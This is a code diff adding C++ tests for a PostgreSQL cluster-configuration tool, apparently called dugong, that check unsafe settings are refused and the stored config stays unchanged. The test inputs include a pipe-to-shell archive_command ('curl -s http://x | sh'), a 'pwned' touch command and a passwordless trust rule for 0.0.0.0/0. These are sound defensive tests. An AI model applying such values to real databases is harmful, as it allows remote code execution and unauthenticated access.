@@ -7,6 +7,7 @@
 #include <atomic>
 #include <cstdio>
 #include <cstdlib>
+#include <fstream>
 #include <iostream>
 #include <memory>
 #include <mutex>
@@ -20,9 +21,11 @@
 #include "agent/config.h"
 #include "agent/http_server.h"
 #include "agent/instance_lock.h"
+#include "pg/cluster_config.h"
 #include "pg/sql.h"
 #include "tests/e2e/careful_writer.h"
 #include "tests/e2e/cluster_harness.h"
+#include "zk/testing/zookeeper_server.h"
 
 namespace dugong::e2e {
 namespace {
@@ -466,8 +469,8 @@ TEST_F(AdmTest, ClusterConfigurationReloadAndRollingRestartUnderWrites) {
   const std::string bytes = stored();
   for (const auto& [args, reason] : std::vector<std::pair<std::string, std::string>>{
            {"config set port=5999", "managed by dugong"},
-           {"config set no_such_setting=1", "not a PostgreSQL setting"},
-           {"config set max_connections=lots", "is an integer"},
+           {"config set no_such_setting=1", "unrecognized configuration parameter \"no_such_setting\""},
+           {"config set max_connections=lots", "invalid value for parameter \"max_connections\": \"lots\""},
            {"config set wal_level=minimal", "replica or logical"},
            {"config set --add-hba ''", "empty"}}) {
     AdmRun bad = cmd(args);
@@ -530,7 +533,35 @@ TEST_F(AdmTest, ClusterConfigurationReloadAndRollingRestartUnderWrites) {
   AdmRun newer = cmd("config set work_mem=8MB");
   EXPECT_EQ(newer.code, 1) << newer.out;
   EXPECT_TRUE(has(newer.out, "upgrade this dugong first")) << newer.out;
-  ASSERT_TRUE((*zk)->putConfigBytes(current->data, current->version + 1, "test: restored").ok);
+  // Written without dugong-adm by someone with the node's ACL: a command to run as
+  // postgres, which no host allows. Every agent refuses it and keeps the version applied.
+  ASSERT_TRUE((*zk)->putConfigBytes(R"({"format": 1, "settings": {"archive_command": "touch /tmp/pwned-%f", )"
+                                    R"("log_min_duration_statement": "999"}})",
+                                    current->version + 1, "test: an unsafe configuration")
+                  .ok);
+  EXPECT_TRUE(h_->waitFor(
+      [&] {
+        for (int i = 0; i < 3; ++i) {
+          const std::string log = h_->logTail(i, 400);
+          if (!has(log, "refused on this host; postgres keeps the last one applied (version " +
+                            std::to_string(current->version) + ")") ||
+              !has(log, "clusterConfig.allowUnsafe: [archive_command]")) {
+            return false;
+          }
+        }
+        return true;
+      },
+      30s))
+      << h_->logTail(0, 400);
+  for (int i = 0; i < 3; ++i) {
+    EXPECT_EQ(show(i, "log_min_duration_statement"), "250ms") << "peer " << i;
+    EXPECT_EQ(show(i, "archive_command"), "(disabled)") << "peer " << i;
+    auto state = h_->status(i);
+    ASSERT_TRUE(state) << "peer " << i;
+    EXPECT_EQ((*state)["clusterConfig"]["appliedVersion"], current->version) << state->dump();
+    EXPECT_TRUE(has((*state)["clusterConfig"]["refused"].dump(), "archive_command")) << state->dump();
+  }
+  ASSERT_TRUE((*zk)->putConfigBytes(current->data, current->version + 2, "test: restored").ok);
   AdmRun reloadNobody = cmd("reload no-such-peer --wait 1");
   EXPECT_EQ(reloadNobody.code, 2) << reloadNobody.out;
 
@@ -586,6 +617,85 @@ TEST_F(AdmTest, ClusterConfigurationReloadAndRollingRestartUnderWrites) {
             << writer.longestGap().count() << " ms\n";
   EXPECT_EQ(h_->zkState()->generation, 2) << "one switchover, no failover";
   for (int i = 0; i < 3; ++i) EXPECT_EQ(rebuilds(i), rebuildsBefore[i]) << "peer " << i << " was rebuilt";
+}
+
+// `config set` against a real ZooKeeper and the real postgres binary, no agents: what
+// postgres refuses (operator review P6-P8) and what no host allowed (issue 41) is
+// refused with the reason and nothing written, the stored node byte for byte as before;
+// a value is stored exactly; what this host's dugong.yaml allows is accepted.
+TEST(AdmConfigSet, RefusedValuesLeaveTheStoredConfigurationUnchanged) {
+  auto server = dugong::testing::ZooKeeperCluster::standalone();
+  zk::ZkOptions options;
+  options.connectString = server->connectString();
+  options.cluster = "admconfig";
+  auto zk = zk::Client::connect(options, 20s);
+  ASSERT_TRUE(zk) << zk.error();
+  auto stored = [&] {
+    auto n = (*zk)->readConfig();
+    return n && n->exists ? n->data : std::string("(absent)");
+  };
+  dugong::testing::ScratchDir dir("dugong-adm-config");
+  // dugong-adm's file needs the zookeeper section; -z wins over it.
+  const std::string head = "cluster: admconfig\nzookeeper:\n  connect: " + server->connectString() + "\n";
+  const std::string plain = dir.path() + "/plain.yaml";
+  std::ofstream(plain) << head;
+  auto set = [&](const std::string& args, const std::string& file) {
+    return adm("-z " + server->connectString() + " -c admconfig --config " + file + " config set " + args);
+  };
+  AdmRun first = set("work_mem=8MB " + quote("log_line_prefix=%m [%p] "), plain);
+  ASSERT_EQ(first.code, 0) << first.out;
+  const std::string bytes = stored();
+  auto config = pg::ClusterConfig::parse(bytes);
+  ASSERT_TRUE(config) << bytes;
+  EXPECT_EQ(config->settings.at("log_line_prefix"), "%m [%p] ") << bytes;  // the trailing space kept
+
+  for (const auto& [args, reasons] : std::vector<std::pair<std::string, std::vector<std::string>>>{
+           {"work_mem=3TB", {"\"work_mem\": \"3TB\"", "Value exceeds integer range"}},
+           {"work_mem=16ms", {"invalid value for parameter \"work_mem\": \"16ms\""}},
+           {"log_statement=everything", {"\"log_statement\": \"everything\"", "Available values: none, ddl, mod, all"}},
+           {quote("log_line_prefix='%m"), {"log_line_prefix", "quote"}},
+           {quote("archive_command=curl -s http://x | sh"),
+            {"archive_command = 'curl -s http://x | sh'", "runs a command", "clusterConfig.allowUnsafe: [archive_command]"}},
+           {"shared_preload_libraries=pg_stat_statements", {"shared_preload_libraries", "loads code"}},
+           {"fsync=off", {"fsync", "clusterConfig.allowUnsafe: [fsync]"}},
+           {"max_standby_streaming_delay=-1", {"max_standby_streaming_delay", "replay"}},
+           {"--add-hba " + quote("host all all 0.0.0.0/0 trust"), {"without a password", "[hba-trust]"}},
+           {"--add-hba " + quote("host all postgres 10.0.0.0/8 scram-sha-256"), {"superuser", "[hba-superuser]"}},
+       }) {
+    AdmRun bad = set(args, plain);
+    EXPECT_EQ(bad.code, 2) << args << ": " << bad.out;
+    EXPECT_TRUE(has(bad.out, "refused, the cluster configuration is unchanged")) << args << ": " << bad.out;
+    for (const auto& reason : reasons) EXPECT_TRUE(has(bad.out, reason)) << args << ": " << bad.out;
+    EXPECT_EQ(stored(), bytes) << args;
+  }
+
+  // application_name is a real setting, though --describe-config leaves it out (P7).
+  AdmRun app = set(quote("application_name=a b"), plain);
+  EXPECT_EQ(app.code, 0) << app.out;
+
+  // Allowed by this host's file: accepted; what it does not name stays refused.
+  const std::string allowing = dir.path() + "/allowing.yaml";
+  std::ofstream(allowing) << head << "clusterConfig:\n  allowUnsafe: [archive_command]\n"
+                          << "postgres:\n  settings:\n    work_mem: 4MB\n";
+  const std::string before = stored();
+  AdmRun fsync = set("fsync=off", allowing);
+  EXPECT_EQ(fsync.code, 2) << fsync.out;
+  EXPECT_EQ(stored(), before);
+  AdmRun allowed = set(quote("archive_command=/usr/bin/true %p"), allowing);
+  ASSERT_EQ(allowed.code, 0) << allowed.out;
+  auto after = pg::ClusterConfig::parse(stored());
+  ASSERT_TRUE(after);
+  EXPECT_EQ(after->settings.at("archive_command"), "/usr/bin/true %p");
+  // The host's own work_mem shadows the cluster's (P5): said at config set.
+  EXPECT_TRUE(has(allowed.out, "this host overrides work_mem")) << allowed.out;
+  // A host file that allows something unknown is an error, not a silent no-op.
+  const std::string typo = dir.path() + "/typo.yaml";
+  std::ofstream(typo) << head << "clusterConfig:\n  allowUnsafe: [archive_comand]\n";
+  const std::string beforeTypo = stored();
+  AdmRun typoRun = set("work_mem=16MB", typo);
+  EXPECT_EQ(typoRun.code, 2) << typoRun.out;
+  EXPECT_TRUE(has(typoRun.out, "'archive_comand' is not something")) << typoRun.out;
+  EXPECT_EQ(stored(), beforeTypo);
 }
 
 }  // namespace
